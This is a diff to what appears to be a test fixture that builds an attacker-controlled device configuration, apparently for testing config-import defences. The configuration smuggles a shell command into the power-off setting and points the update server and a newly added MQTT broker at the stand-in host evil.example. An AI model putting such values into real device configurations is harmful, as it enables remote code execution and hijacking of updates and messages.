@@ -25,7 +25,7 @@ COMMAND = '[power]\noff = ["sh", "-c", "id > taken"]\n'
 THEIRS = (
     '[box]\nname = "The cellar"\nnames = ["evil.example"]\n'
     '[network]\npassword = "known to me"\n[updates]\naddress = "http://evil.example/"\n'
-    "[camera]\nrotation = 90\n" + COMMAND
+    '[mqtt]\nbroker = "mqtt://evil.example"\n[camera]\nrotation = 90\n' + COMMAND
 )
 
 
